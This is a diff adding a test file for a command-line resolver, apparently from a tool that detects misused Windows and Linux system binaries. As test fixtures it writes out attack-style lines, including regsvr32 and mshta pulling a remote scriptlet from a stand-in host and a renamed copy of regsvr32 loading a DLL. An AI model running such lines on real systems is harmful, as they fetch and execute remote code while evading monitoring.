@@ -1,0 +1,128 @@
+import fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import { testCatalog } from "../../test/support/events.ts";
+import { resolve } from "./resolve.ts";
+import { MAX_DEPTH, MAX_INVOCATIONS } from "./state.ts";
+import type { Request } from "./types.ts";
+
+const names = (request: Request) => resolve(request, testCatalog()).invocations.map(({ binary }) => binary.name);
+const runs = (request: Request) =>
+  resolve(request, testCatalog()).invocations.flatMap((i) => i.behaviours.flatMap((b) => b.runs.map((p) => p.value)));
+const typed = (commandLine: string): Request => ({ commandLine });
+
+describe("who runs", () => {
+  it("is told by the original file name before the image and the name on the line", () => {
+    const commandLine = "svc.exe /s C:\\ProgramData\\a.dll";
+    const [known] = resolve(
+      { commandLine, image: "C:\\t\\svc.exe", originalFileName: "REGSVR32.EXE" },
+      testCatalog(),
+    ).invocations;
+    expect(known?.binary).toMatchObject({
+      name: "regsvr32.exe",
+      renamed: true,
+      by: "originalFileName",
+      path: "C:\\t\\svc.exe",
+    });
+    const [image] = resolve({ commandLine, image: "C:\\Windows\\System32\\regsvr32.exe" }, testCatalog()).invocations;
+    expect(image?.binary).toMatchObject({ name: "regsvr32.exe", renamed: false, by: "image" });
+  });
+  it("is told by the arguments alone where they fit one program only, and only for odd lines", () => {
+    const odd: Request = { commandLine: "x.exe /u /i:http://h.example/a.sct scrobj.dll", image: "C:\\t\\x.exe" };
+    expect(resolve(odd, testCatalog()).invocations[0]?.binary).toMatchObject({
+      name: "regsvr32.exe",
+      by: "behaviour",
+      renamed: true,
+    });
+    expect(names({ commandLine: "x.exe /s /u report.txt", image: "C:\\t\\x.exe" })).toEqual(["x.exe"]);
+  });
+  it("names an impostor's look-alike letters", () => {
+    const [invocation] = resolve(
+      { commandLine: "a", image: "C:\\Wіndows\\System32\\regsvr32.exe" },
+      testCatalog(),
+    ).invocations;
+    expect(invocation?.binary.impostor).toContain("read as");
+  });
+  it("finds the program where its name is missing from the line", () => {
+    expect(runs({ commandLine: "/s C:\\d\\a.dll", image: "C:\\Windows\\System32\\regsvr32.exe" })).toEqual([
+      "C:\\d\\a.dll",
+    ]);
+  });
+});
+
+describe("nesting", () => {
+  it("lists every invocation, outermost first, with its parent", () => {
+    const { invocations } = resolve(typed("cmd /c start /b rundll32 C:\\d\\a.dll,Go"), testCatalog());
+    expect(invocations.map(({ binary, parent }) => [binary.name, parent])).toEqual([
+      ["cmd.exe", undefined],
+      ["start", 0],
+      ["rundll32.exe", 1],
+    ]);
+  });
+  it("follows Linux wrappers as argv and as text", () => {
+    const args = ["env", "A=1", "find", "/srv", "-exec", "sh", "-c", "/tmp/x -q", ";"];
+    expect(names({ args })).toEqual(["env", "find", "sh", "x"]);
+    expect(names({ commandLine: "env A=1 find /srv -exec sh -c '/tmp/x -q' \\;", platform: "linux" })).toEqual([
+      "env",
+      "find",
+      "sh",
+      "x",
+    ]);
+  });
+  it("reads what the line itself wrote or copied before", () => {
+    const script = 'echo GetObject("script:http://h.example/a.sct") > C:\\d\\a.js && mshta.exe C:\\d\\a.js';
+    expect(runs(typed(script)).some((value) => value.includes("http://h.example/a.sct"))).toBe(true);
+    const copy = "copy C:\\Windows\\System32\\regsvr32.exe C:\\d\\chat.exe && C:\\d\\chat.exe /s C:\\d\\a.dll";
+    expect(names(typed(copy))).toContain("regsvr32.exe");
+  });
+  it("adds the shell that a typed line needs", () => {
+    expect(names(typed("type C:\\a.txt > C:\\b.txt"))).toEqual(["cmd.exe", "type"]);
+    expect(names(typed("echo /tmp/x | sh"))).toEqual(["sh", "echo", "sh", "x"]);
+  });
+});
+
+describe("limits", () => {
+  it("cuts ten thousand nested wrappers and says so", () => {
+    const args = [...Array.from({ length: 10_000 }, () => "env"), "/tmp/x"];
+    const { invocations } = resolve({ args }, testCatalog());
+    expect(invocations.length).toBeLessThanOrEqual(MAX_DEPTH + 2);
+    expect(invocations[0]?.cut).toContain("deep");
+  });
+  it("cuts a list of commands without end", () => {
+    const { invocations } = resolve(
+      { commandLine: `cmd /c ${"calc & ".repeat(5000)}`, platform: "windows" },
+      testCatalog(),
+    );
+    expect(invocations.length).toBeLessThanOrEqual(MAX_INVOCATIONS);
+    expect(invocations[0]?.cut).toBeDefined();
+  });
+  it("answers a line of ten megabytes in bounded time", () => {
+    const started = performance.now();
+    const { invocations } = resolve(typed(`regsvr32 /s ${"a".repeat(10_000_000)}.dll`), testCatalog());
+    expect(performance.now() - started).toBeLessThan(5000);
+    expect(invocations[0]?.cut).toContain("longer");
+  });
+  it("never throws, whatever stands there", () => {
+    const piece = fc.oneof(
+      fc.string(),
+      fc.string({ unit: "binary" }),
+      fc.constantFrom("regsvr32 ", "cmd /c ", '"', "^", "%a%", "\\", "/i:", "| sh", "$(", "`", "\ud800"),
+    );
+    fc.assert(
+      fc.property(
+        fc.array(piece, { maxLength: 12 }),
+        fc.constantFrom("windows", "linux", undefined),
+        (pieces, platform) => {
+          resolve({ commandLine: pieces.join(""), ...(platform && { platform }) } as Request, testCatalog());
+          resolve({ args: pieces, ...(platform && { platform }) } as Request, testCatalog());
+        },
+      ),
+      { numRuns: 300 },
+    );
+  });
+});
+
+it("knows who ran but claims nothing where the log has no arguments", () => {
+  const { invocations } = resolve({ image: "C:\\Windows\\System32\\rundll32.exe", as: "logged" }, testCatalog());
+  expect(invocations[0]?.binary.name).toBe("rundll32.exe");
+  expect(invocations[0]?.behaviours).toEqual([]);
+});
